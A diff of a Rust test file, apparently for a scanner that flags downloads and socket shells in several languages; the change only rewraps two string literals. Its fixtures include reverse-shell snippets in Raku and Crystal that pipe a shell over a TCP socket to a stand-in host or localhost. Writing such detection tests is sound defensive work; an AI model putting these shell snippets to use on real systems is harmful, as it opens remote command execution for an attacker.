@@ -56,7 +56,8 @@ fn round_40t_downloads_run_in_more_languages() {
     // Downloaded and only handled (a method call, an assignment, a listing).
     let kept = "def conn = new URL('https://api.example.org/x').openConnection()\nconn.requestMethod = 'GET'\nprintln conn.responseCode\n";
     at(&[("c.gradle", kept)], rule, None);
-    let listed = "wget -q https://pkg.example.com/kit.tar.gz -O kit.tar.gz\ntar tzf kit.tar.gz\nls kit/\n";
+    let listed =
+        "wget -q https://pkg.example.com/kit.tar.gz -O kit.tar.gz\ntar tzf kit.tar.gz\nls kit/\n";
     at(&[("ci.sh", listed)], rule, None);
 }
 
@@ -73,7 +74,8 @@ fn round_40t_socket_shells_in_more_languages() {
     at(&[("a.cr", cr)], rule, Some(Critical));
     let raku = "my $c = IO::Socket::INET.new(:host<rk.example.net>, :port(7004));\nfor $c.lines { $c.print: shell($_, :out).out.slurp }\nmy $x = $c.get;\n";
     at(&[("a.raku", raku)], rule, Some(Critical));
-    let local = "s = TCPSocket.new(\"127.0.0.1\", 7003)\nProcess.run(\"/bin/bash\", input: s, output: s)\n";
+    let local =
+        "s = TCPSocket.new(\"127.0.0.1\", 7003)\nProcess.run(\"/bin/bash\", input: s, output: s)\n";
     at(&[("a.cr", local)], rule, None);
     let echo = "{ok, S} = gen_tcp:connect(\"erl.example.net\", 7001, [binary]),\n{ok, D} = gen_tcp:recv(S, 0),\nio:format(\"~p~n\", [D]).\n";
     at(&[("a.erl", echo)], rule, None);
